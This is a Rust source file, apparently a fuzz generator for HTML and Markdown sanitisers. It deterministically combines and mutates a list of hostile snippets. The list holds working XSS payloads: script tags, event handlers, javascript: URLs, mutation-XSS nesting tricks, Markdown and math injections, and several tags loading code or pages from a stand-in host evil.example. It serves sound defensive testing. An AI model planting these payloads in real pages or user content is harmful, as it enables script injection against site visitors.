//! Topics of strangers: pieces of hostile HTML and Markdown, put together and damaged at random, the same in every run.

/// What sanitisers and parsers have stumbled over.
const PIECES: [&str; 96] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<image href=x onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>y</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\"><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mi><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><select><option><style></option></select></table><img src=x onerror=alert(1)></style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<plaintext>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(//evil.example/x);position:fixed\">x</p>",
    "<div style=\"width: expression(alert(1))\" class=\"site-header modal\" role=banner>x</div>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1) type=image src=x>",
    "<input type=hidden name=token value=1>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html><head><frameset onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<portal src=//evil.example/>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\" &#1;javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript&colon;alert(1)\">x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=\"vbscript:x\" target=_top ping=//evil.example/>x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<a href=\"//evil.example\" style=\"position:fixed;inset:0\">x</a>",
    "<a name=location id=cookie>x</a>",
    "<x-y onclick=alert(1) is=z>x</x-y>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!doctype html>",
    "</p></div></section></article></body>",
    "<b><i><u></b></i></u>",
    "<table><tr><td><table><tr><td></table>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](y \"z\\\" onerror=\\\"alert(1)\")",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    "<javascript:alert(1)>",
    "<https://a.b/\"onclick=\"alert(1)>",
    "https://a.b/'\"onclick=alert(1)//<script>",
    "[[x\" onclick=\"alert(1)]]",
    "[[javascript:alert(1)|y]]",
    "[r]\n\n[r]: javascript:alert(1) \"t\"",
    "# h {#x\" .y onclick=alert(1) style=z}",
    "## <b onclick=alert(1)>h</b>",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "~~~html onclick=alert(1)\n<img src=x onerror=alert(1)>\n~~~",
    "`<script>alert(1)</script>`",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\begin{array}{\"onclick=alert(1)}a\\end{array}$$",
    "$\\href{javascript:alert(1)}{x} \\color{red\"onclick=\"x}y$",
    "$\\unicode{60}script\\unicode{62}$",
    "| a | <script>alert(1)</script> |\n|-|-|\n| [x](javascript:1) | ![y](z) |",
    "[^n]\n\n[^n]: <img src=x onerror=alert(1)>",
    "> [!NOTE]<script>\n> <img src=x onerror=alert(1)>",
    "- [x] <input checked onclick=alert(1)>",
    "term<script>\n: <svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u{0}\u{feff}\u{202e}\u{2028}\u{85}",
    "é🦀日本語",
    "*a **b _c ~~d",
    "\\<script\\>",
];

/// What stands between pieces, and is strewn into them.
const SALT: [&str; 28] = [
    "", " ", "\n", "\n\n", "\t", "    ", "> ", "- ", "1. ", "\"", "'", "`", "<", ">", "</", "/>", "&", "\\", "[", "](",
    ")", "*", "|", "$", "{", "}", "\u{0}", "\r",
];

/// Numbers that look random (SplitMix64).
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % sides as u64) as usize
    }
}

/// The topic of this number.
pub fn topic(number: u64) -> String {
    let mut dice = Dice(number);
    let mut topic = String::new();
    for _ in 0..1 + dice.roll(8) {
        topic.push_str(PIECES[dice.roll(PIECES.len())]);
        topic.push_str(SALT[dice.roll(SALT.len())]);
    }
    for _ in 0..dice.roll(6) {
        damage(&mut topic, &mut dice);
    }
    topic
}

/// Cuts some characters out, or puts something in.
fn damage(text: &mut String, dice: &mut Dice) {
    let mut place = |text: &str| {
        let at = dice.roll(text.len() + 1);
        (0..=at).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0)
    };
    let (a, b) = (place(text), place(text));
    match dice.roll(3) {
        0 => text.insert_str(a, SALT[dice.roll(SALT.len())]),
        1 => text.insert_str(a, PIECES[dice.roll(PIECES.len())]),
        _ if a.abs_diff(b) < 24 => text.replace_range(a.min(b)..a.max(b), ""),
        _ => {}
    }
}
